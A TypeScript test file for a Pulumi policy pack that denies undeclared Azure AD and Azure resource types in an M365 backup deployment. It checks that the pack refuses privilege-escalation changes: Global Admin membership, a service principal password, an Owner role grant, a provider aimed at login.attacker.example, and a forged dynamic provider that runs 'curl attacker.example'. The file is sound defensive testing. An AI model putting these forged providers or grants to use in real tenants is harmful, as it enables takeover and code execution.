import * as fs from "fs";
import * as path from "path";
import { allowedResourceTypes, resourceTypeViolation } from "../../policies/resource-types-allow-list";
import { loaderHashOf, runtimeOfDynamicType, trustedLoaderHash } from "../../policies/trusted-dynamic-providers";
import { PolicyAnalyzer, PolicyViolation } from "../../tools/gate/policy-analyzer-client";
import type { RecordedResource } from "../../tools/mock-runtime/recording-monitor";
import { recorded, unknown } from "./policy-harness";
import { goodStack, isAccountUser, startDevPack, types } from "./stack-fixtures";

/**
 * The pack is default-deny: a resource type the module does not declare fails, whatever it is called.
 * The types tried here come from the installed SDKs, so a type a new provider version adds is refused
 * without anyone listing it.
 */
const projectDir = path.resolve(__dirname, "..", "..");

function sdkTypes(pkg: string): string[] {
  const found = new Set<string>();
  const walk = (dir: string) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const file = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(file);
      else if (entry.name.endsWith(".js"))
        for (const m of fs.readFileSync(file, "utf8").matchAll(/__pulumiType = '([^']+)'/g)) found.add(m[1]);
    }
  };
  walk(path.join(projectDir, "node_modules", "@pulumi", pkg));
  return [...found].sort();
}
const azuread = sdkTypes("azuread");
const azureNative = sdkTypes("azure-native");
const listed = new Set(Object.keys(allowedResourceTypes));

describe("resource-types-allow-list", () => {
  it("refuses every azuread and azure-native type the module does not declare, read from the installed SDKs", () => {
    expect(azuread.length).toBeGreaterThan(50);
    expect(azureNative.length).toBeGreaterThan(1000);
    const unlisted = [...azuread, ...azureNative].filter((t) => !listed.has(t));
    for (const type of unlisted) {
      expect({ type, violation: resourceTypeViolation({ type, name: "x", props: {}, opts: {} as never }) }).toEqual({
        type,
        violation: expect.stringMatching(/is not a resource type this module declares/),
      });
    }
    // Every provider type it does list exists in its SDK: no typo leaves a hole.
    for (const type of [...listed].filter((t) => /^(azuread|azure-native):/.test(t)))
      expect({ type, inSdk: [...azuread, ...azureNative].includes(type) }).toEqual({ type, inSdk: true });
  });

  it("names for each dynamic type the runtime its provider stores in state, and knows the loader the program serializes", async () => {
    const stateStored = fs.readFileSync(path.join(projectDir, "infra", "providers", "state-stored-runtime-paths.txt"), "utf8");
    const shims = fs.readdirSync(path.join(projectDir, "infra", "providers")).filter((f) => f.endsWith("-provider.ts"));
    const shimPaths = shims.map(
      (f) => /const runtimePath = "([^"]+)"/.exec(fs.readFileSync(path.join(projectDir, "infra", "providers", f), "utf8"))?.[1],
    );
    expect(Object.values(runtimeOfDynamicType).sort()).toEqual([...shimPaths].sort());
    for (const runtime of Object.values(runtimeOfDynamicType)) expect(stateStored).toContain(`\n${runtime}\n`);
    const stack = await goodStack();
    const providers = stack.filter((r) => typeof r.inputs.__provider === "string");
    expect(new Set(providers.map((r) => r.type)).size).toBeGreaterThanOrEqual(4);
    for (const r of providers)
      expect({ type: r.type, hash: loaderHashOf(String(r.inputs.__provider)) }).toEqual({ type: r.type, hash: trustedLoaderHash });
  });
});

describe("resource-types-allow-list over gRPC, program changes that used to pass", () => {
  let analyzer: PolicyAnalyzer;
  beforeAll(async () => (analyzer = await startDevPack()), 60000);
  afterAll(() => analyzer?.stop());

  const stranger = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee";
  const globalAdmin = "62e90394-69f5-4237-9190-012177145e10";
  const exchangeParent = (s: RecordedResource[]) => s.find(isAccountUser("exchange"))!.parent;
  const dynamicSchedule = "pulumi-nodejs:dynamic/m365-backup:DirectoryRoleAssignmentSchedule";
  const mandatory = (vs: PolicyViolation[]) => vs.filter((v) => v.enforcementLevel === "mandatory");

  const cases: [string, (s: RecordedResource[]) => RecordedResource[], string, RegExp][] = [
    [
      "a directory role object and a permanent member",
      (s) => [
        ...s,
        recorded("azuread:index/directoryRole:DirectoryRole", "ga-role", { templateId: globalAdmin }),
        recorded("azuread:index/directoryRoleMember:DirectoryRoleMember", "ga-member", { roleObjectId: "r", memberObjectId: stranger }),
      ],
      "resource-types-allow-list",
      /ga-role is a azuread:index\/directoryRole:DirectoryRole, which is not a resource type this module declares/,
    ],
    [
      "a role-assignable group and a member",
      (s) => [
        ...s,
        recorded("azuread:index/group:Group", "pra-group", { displayName: "x", securityEnabled: true, assignableToRole: true }),
        recorded("azuread:index/groupMember:GroupMember", "pra-member", { groupObjectId: "g", memberObjectId: stranger }),
      ],
      "resource-types-allow-list",
      /pra-group is a azuread:index\/group:Group/,
    ],
    [
      "a password on the vendor's service principal",
      (s) => [...s, recorded("azuread:index/servicePrincipalPassword:ServicePrincipalPassword", "sp-secret", { servicePrincipalId: "x" })],
      "resource-types-allow-list",
      /sp-secret is a azuread:index\/servicePrincipalPassword/,
    ],
    [
      "a custom directory role",
      (s) => [...s, recorded("azuread:index/customDirectoryRole:CustomDirectoryRole", "custom", { displayName: "x", permissions: [] })],
      "resource-types-allow-list",
      /custom is a azuread:index\/customDirectoryRole/,
    ],
    [
      "a federated credential outside the customer-owned backup app",
      (s) => [
        ...s,
        recorded("azuread:index/applicationFederatedIdentityCredential:ApplicationFederatedIdentityCredential", "fic", {
          applicationId: "x",
          issuer: "https://token.actions.githubusercontent.com",
          subject: "repo:attacker/repo:ref:refs/heads/main",
        }),
      ],
      "resource-types-allow-list",
      /fic .* is refused: it is not part of a CustomerBackupApp component/,
    ],
    [
      "an Azure Owner role assignment",
      (s) => [
        ...s,
        recorded("azure-native:authorization:RoleAssignment", "owner", {
          principalId: stranger,
          roleDefinitionId: "/subscriptions/s/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
          scope: "/subscriptions/s",
        }),
      ],
      "resource-types-allow-list",
      /owner .* only Key Vault Secrets User/,
    ],
    [
      "a provider aimed at another login host",
      (s) => [...s, recorded("pulumi:providers:azuread", "evil", { tenantId: stranger, metadataHost: "login.attacker.example" })],
      "resource-types-allow-list",
      /evil .* it sets metadataHost/,
    ],
    [
      "a dynamic resource that claims the schedule's type with its own provider",
      (s) => {
        const real = s.find((r) => r.type === dynamicSchedule)!;
        const provider = String(real.inputs.__provider).replace(
          "return (0, runtime_loader_1.loadProviderRuntime)(runtimePath).create(inputs);",
          'require("child_process").execSync("curl attacker.example"); return { id: "x", outs: inputs };',
        );
        return [...s, recorded(dynamicSchedule, "forged", { ...real.inputs, __provider: provider, durationHours: 8 })];
      },
      "resource-types-allow-list",
      /forged .* its provider method __f\d+ does more than load infra\/identity\/role-assignment-schedule-runtime\.ts/,
    ],
    [
      "a role to a stranger parented under the Exchange account",
      (s) => [
        ...s,
        recorded(
          types.role,
          "hidden-role",
          { roleId: "e8611ab8-c189-46e8-94e1-60213ab1f814", principalObjectId: stranger },
          { parent: exchangeParent(s) },
        ),
      ],
      "directory-roles-for-backup-accounts-only",
      new RegExp(`hidden-role gives e8611ab8-.* to ${stranger}, which is not a backup account`),
    ],
    [
      "a role to a principal unknown in the preview, outside any backup account",
      (s) => [...s, recorded(types.role, "unknown-role", { roleId: "e8611ab8-c189-46e8-94e1-60213ab1f814", principalObjectId: unknown })],
      "directory-roles-for-backup-accounts-only",
      /unknown-role gives .* a principal that is unknown in this preview .* it cannot be verified, so it fails/,
    ],
  ];

  it.each(cases)("fails %s as a mandatory violation", async (_label, change, policy, message) => {
    const violations = mandatory(await analyzer.analyzeDeployment(change([...(await goodStack())])));
    expect(violations.map((v) => v.policyName)).toContain(policy);
    expect(violations.filter((v) => v.policyName === policy).map((v) => v.message)).toContainEqual(expect.stringMatching(message));
  });
});
